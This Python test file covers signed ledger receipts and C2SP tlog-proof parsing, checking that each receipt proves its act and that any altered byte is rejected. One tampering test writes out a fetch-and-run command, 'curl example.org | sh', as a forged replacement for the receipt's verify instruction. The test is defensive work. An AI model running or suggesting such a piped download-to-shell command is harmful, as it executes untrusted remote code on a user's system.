"""A receipt proves one act to its customer, offline, and not one byte of it can be changed."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fairdesk.accountability.ledger import Tampered, commitment, entry_bytes
from fairdesk.accountability.notes import Signer, encoded, open_note, parse_checkpoint
from fairdesk.accountability.proofs import LONGEST, Proof, check_receipt, read_tlog_proof, receipt, tlog_proof
from fairdesk.accountability.tree import leaf_hash
from fairdesk.nouns import BadInput
from tests.accountability.examples import (
    SIGNER,
    STRANGER,
    Tables,
    body_of,
    entry,
    exact,
    opening_of,
    proof_in,
    signed,
    tables,
)

LEDGER = tables(11)
NOTE = LEDGER.checkpoints[-1].note
KEY = SIGNER.verifier_key


def receipt_of(number: int, ledger: Tables = LEDGER, note: str = NOTE, body: bytes | None = None) -> str:
    words = body_of(number) if body is None else body
    return receipt(number, exact(number), opening_of(number), words, proof_in(ledger, number), note)


def single(body: bytes) -> str:
    """A receipt from a ledger of one entry that seals *body*."""
    sealed = entry_bytes(entry(commitment=commitment(opening_of(1), body).hex()))
    return receipt(0, sealed, opening_of(1), body, (), signed(1, leaf_hash(sealed)).note)


class TestReceipt:
    @pytest.mark.parametrize("number", range(11))
    def test_proves_its_act(self, number: int) -> None:
        checked = check_receipt(receipt_of(number), KEY)

        assert number == checked.index
        assert entry(number) == checked.entry
        assert body_of(number) == checked.body
        assert (SIGNER.name, 11) == (checked.checkpoint.origin, checked.checkpoint.size)

    def test_says_first_in_plain_words_what_it_is_and_how_to_check_it(self) -> None:
        title, top = receipt_of(4).split("fairdesk-receipt")[0].split("\n", 1)

        assert title.startswith("RECEIPT FOR ONE ACT")
        assert "\n    fairdesk receipt verify FILE\n" in top
        assert all(len(sentence.split()) <= 15 for sentence in re.split(r"[.:]\s", top))

    def test_shows_the_words_where_they_are_one_printable_line(self) -> None:
        assert f"\nbody {body_of(4).decode()}\n" in receipt_of(4)

    def test_names_the_key_that_checks_it(self) -> None:
        assert "\nkey " + "+".join(KEY.split("+")[:2]) + "\n" in receipt_of(4)

    def test_opens_no_other_act(self) -> None:
        """The stranger: another customer's entry stands beside ours, and nothing of it is in our receipt."""
        ours = receipt_of(4)

        assert body_of(5).decode() not in ours
        assert opening_of(5).hex() not in ours
        assert exact(5).decode() not in ours

    def test_holds_after_the_ledger_has_grown(self) -> None:
        later = tables(300, 11)

        assert later.checkpoints[0].note == NOTE
        assert 4 == check_receipt(receipt_of(4), KEY).index
        assert 300 == check_receipt(receipt_of(4, later, later.checkpoints[-1].note), KEY).checkpoint.size

    def test_survives_windows_line_ends_and_a_byte_order_mark(self) -> None:
        mailed = "\ufeff" + receipt_of(4).replace("\n", "\r\n")

        assert body_of(4) == check_receipt(mailed, KEY).body

    @pytest.mark.parametrize(
        "body",
        [
            b"",
            b" ",
            b"\n",
            b"two\nlines",
            b"\xff\x00",
            "left-to-right \u202eoverride".encode(),
            "no\u200bwidth".encode(),
            b" leading",
            "où est mon colis ?".encode(),
            "أين طردي؟".encode(),
            "包裹在哪里？".encode(),
            b"body-base64 QQ==",
            b"----- proof ends -----",
        ],
    )
    def test_takes_any_body_and_shows_no_other_words_than_it_holds(self, body: bytes) -> None:
        text = single(body)

        assert body == check_receipt(text, KEY).body
        assert "\u202e" not in text

    @given(st.binary(max_size=200) | st.text(max_size=100).map(lambda words: words.encode("utf-8", "replace")))
    @settings(deadline=None)
    def test_gives_back_any_body(self, body: bytes) -> None:
        assert body == check_receipt(single(body), KEY).body


class TestTampering:
    @pytest.mark.parametrize("mask", [1, 32, 128])
    def test_no_byte_can_be_changed(self, mask: int) -> None:
        raw = receipt_of(6).encode()

        for position in range(len(raw)):
            changed = raw[:position] + bytes([raw[position] ^ mask]) + raw[position + 1 :]
            with pytest.raises((BadInput, Tampered)):
                check_receipt(changed.decode("utf-8", "surrogateescape"), KEY)

    @given(data=st.data())
    @settings(max_examples=300, deadline=None)
    def test_no_byte_can_be_changed_added_or_taken_away(self, data: st.DataObject) -> None:
        raw = receipt_of(6).encode()
        start = data.draw(st.integers(0, len(raw) - 1))
        end = data.draw(st.integers(start, min(len(raw), start + 40)))
        changed = raw[:start] + data.draw(st.binary(max_size=5)) + raw[end:]
        if changed == raw:
            return

        with pytest.raises((BadInput, Tampered)):
            check_receipt(changed.decode("utf-8", "surrogateescape"), KEY)

    def test_another_body_is_named(self) -> None:
        forged = receipt_of(6).replace("On its way.", "It is lost.")

        with pytest.raises(Tampered, match=r"body is not what was sealed in the entry of act 0190-act-00000006"):
            check_receipt(forged, KEY)

    def test_another_entry_is_named(self) -> None:
        forged = receipt_of(6).replace('"code":"route.answerable"', '"code":"route.unanswerable"')

        with pytest.raises(Tampered, match="act 0190-act-00000006 is not in the ledger at index 6"):
            check_receipt(forged, KEY)

    def test_a_receipt_signed_by_somebody_else_is_refused(self) -> None:
        theirs = signed(11, parse_checkpoint(open_note(NOTE)[0]).root, STRANGER).note

        with pytest.raises(Tampered, match="not signed by the key"):
            check_receipt(receipt_of(6, note=theirs), KEY)

    def test_the_key_line_cannot_name_another_key(self) -> None:
        forged = receipt_of(6).replace("key fairdesk/test-desk+", "key fairdesk/test-disk+")

        with pytest.raises(Tampered, match="beside the proof"):
            check_receipt(forged, KEY)

    def test_the_command_at_the_top_cannot_be_changed(self) -> None:
        with pytest.raises(BadInput, match="fixed words"):
            check_receipt(receipt_of(6).replace("fairdesk receipt verify FILE", "curl example.org | sh"), KEY)

    def test_the_same_words_in_base64_are_another_file(self) -> None:
        forged = receipt_of(6).replace(f"body {body_of(6).decode()}", "body-base64 " + encoded(body_of(6)))

        with pytest.raises(Tampered, match="beside the proof"):
            check_receipt(forged, KEY)

    def test_words_beside_it_make_it_another_file(self) -> None:
        for changed in (
            receipt_of(6) + "\n",
            "\n" + receipt_of(6),
            receipt_of(6)[:-1],
            receipt_of(6) + receipt_of(6),
        ):
            with pytest.raises((BadInput, Tampered)):
                check_receipt(changed, KEY)

    @given(st.text(max_size=300))
    def test_any_other_text_is_refused_politely(self, text: str) -> None:
        with pytest.raises(BadInput):
            check_receipt(text, KEY)

    def test_a_file_that_is_too_long_is_refused(self) -> None:
        with pytest.raises(BadInput, match="longer than"):
            check_receipt("a" * (LONGEST + 1), KEY)

    def test_a_wrong_key_is_said_to_be_wrong(self) -> None:
        with pytest.raises(BadInput, match="verifier key"):
            check_receipt(receipt_of(6), "not a key")


class TestMaking:
    """A receipt that would not hold is never handed out."""

    def test_wrong_index(self) -> None:
        with pytest.raises(Tampered, match="index 5"):
            receipt(5, exact(6), opening_of(6), body_of(6), proof_in(LEDGER, 6), NOTE)

    def test_wrong_proof(self) -> None:
        with pytest.raises(Tampered):
            receipt(6, exact(6), opening_of(6), body_of(6), proof_in(LEDGER, 5), NOTE)

    def test_wrong_body_or_opening(self) -> None:
        with pytest.raises(Tampered, match="sealed"):
            receipt_of(6, body=b"other words")
        with pytest.raises(Tampered, match="sealed"):
            receipt(6, exact(6), opening_of(5), body_of(6), proof_in(LEDGER, 6), NOTE)

    def test_an_opening_that_could_be_guessed(self) -> None:
        with pytest.raises(BadInput, match="guessed"):
            receipt(6, exact(6), b"short", body_of(6), proof_in(LEDGER, 6), NOTE)

    def test_a_checkpoint_not_signed_by_its_own_log(self) -> None:
        other = Signer("witness.example", bytes(32)).sign(open_note(NOTE)[0])

        with pytest.raises(Tampered, match="its own log"):
            receipt_of(6, note=other)


class TestTlogProof:
    def test_is_written_as_the_specification_says(self) -> None:
        """c2sp.org/tlog-proof: format line, index, hashes, an empty line, the checkpoint verbatim."""
        first, second = bytes(range(32)), bytes(range(32, 64))
        expected = (
            "c2sp.org/tlog-proof@v1\nindex 73894\n"
            "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\nICEiIyQlJicoKSorLC0uLzAxMjM0NTY3ODk6Ozw9Pj8=\n"
            f"\n{NOTE}"
        )

        assert expected == tlog_proof(Proof(73894, (first, second), NOTE))
        assert Proof(73894, (first, second), NOTE) == read_tlog_proof(expected)

    def test_stands_whole_in_the_receipt(self) -> None:
        part = receipt_of(6).split("(C2SP tlog-proof) -----\n")[1].removesuffix("----- proof ends -----\n")

        assert Proof(6, proof_in(LEDGER, 6), NOTE) == read_tlog_proof(part)

    def test_an_extra_line_of_others_is_passed_over(self) -> None:
        text = tlog_proof(Proof(1, (), NOTE)).replace("index", "extra QQ==\nindex")

        assert Proof(1, (), NOTE) == read_tlog_proof(text)

    @pytest.mark.parametrize(
        "text",
        [
            "",
            "c2sp.org/tlog-proof@v2\nindex 1\n\nx",
            "c2sp.org/tlog-proof@v1\n\nx",
            "c2sp.org/tlog-proof@v1\nindex 01\n\nx",
            "c2sp.org/tlog-proof@v1\nindex 1\nQQ==\n\nx",
            "c2sp.org/tlog-proof@v1\nindex 1\n",
            "c2sp.org/tlog-proof@v1\nindex 1\n" + "AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=\n" * 64 + "\nx",
        ],
    )
    def test_what_is_none_is_refused(self, text: str) -> None:
        with pytest.raises(BadInput):
            read_tlog_proof(text)
